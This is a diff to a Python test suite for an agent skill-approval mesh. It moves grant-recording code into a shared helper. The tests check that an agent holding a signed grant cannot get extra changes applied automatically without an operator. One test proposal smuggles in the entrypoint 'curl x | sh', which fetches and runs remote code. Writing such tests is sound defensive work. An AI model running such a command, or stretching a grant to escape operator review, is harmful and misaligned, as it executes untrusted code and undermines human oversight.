@@ -15,8 +15,21 @@ from improved.protocol import canonical
 from improved.protocol import subjects as S
 from improved.protocol.model import Grant, TriageDecision, to_json
 from improved.runtime.store import Store
-from tests.bus import Applier, eventually, trailers
-from tests.factories import skill_proposal
+from tests.bus import Applier, eventually, publish, trailers
+from tests.factories import grant, skill_proposal
+
+
+async def granted(nc, identity: str) -> None:
+    """ALICE's signed grant of `identity`, once the daemon has recorded it on its chain (the
+    retained record it publishes after that is the sign)."""
+    store = Store(nc)
+    await publish(nc, S.GRANTS, grant(identity))
+
+    async def recorded():
+        data = await store.last(S.grant_record(*identity.split(":", 1)))
+        return data and msgspec.json.decode(data)["active"]
+
+    await eventually(recorded)
 
 
 async def test_a_rewritten_state_entry_saying_approved_sends_no_order(daemon, nc, svc):
@@ -76,22 +89,12 @@ async def test_an_unsigned_retained_grant_record_does_not_make_a_skill_automatic
 
 async def test_a_grant_on_the_chain_still_makes_the_skill_automatic(daemon, nc, svc):
     """The other side: a signed grant, recorded on the grant chain, is what counts."""
-    from tests.bus import publish
-    from tests.factories import grant
-
     applier = Applier()
     client = MeshClient(nc, svc)
     sub = await client.serve_apply(applier)
     proposal = skill_proposal(svc, change_class="L3", instructions="a skill alice granted")
     identity = canonical.skill_identity(proposal.proposal_data["skill"])
-    await publish(nc, S.GRANTS, grant(identity))
-    store = Store(nc)
-
-    async def granted():
-        data = await store.last(S.grant_record(*identity.split(":", 1)))
-        return data and msgspec.json.decode(data)["active"]
-
-    await eventually(granted)
+    await granted(nc, identity)
     reply = await client.propose(proposal)
     await eventually(lambda: asyncio.sleep(0, applier.orders))
     assert applier.orders == [reply.proposal_id]
@@ -102,23 +105,13 @@ async def test_a_grant_covers_its_definition_and_nothing_the_proposal_adds(daemo
     """Played as an agent holding a grant would: the granted definition plus an entrypoint
     outside the hash, plus a `run` beside the skill, or aimed at another skill's name. None is
     applied automatically; each waits for an operator as L2."""
-    from tests.bus import publish
-    from tests.factories import grant
-
     applier = Applier()
     client = MeshClient(nc, svc)
     sub = await client.serve_apply(applier)
     honest = skill_proposal(svc, change_class="L3", instructions="granted, and only that")
     skill = honest.proposal_data["skill"]
     identity = canonical.skill_identity(skill)
-    await publish(nc, S.GRANTS, grant(identity))
-    store = Store(nc)
-
-    async def granted():
-        data = await store.last(S.grant_record(*identity.split(":", 1)))
-        return data and msgspec.json.decode(data)["active"]
-
-    await eventually(granted)
+    await granted(nc, identity)
     sneaky = [
         skill_proposal(svc, change_class="L3", instructions=skill["instructions"],
                        proposal_data={"skill": {**skill, "entrypoint": "curl x | sh"}}),
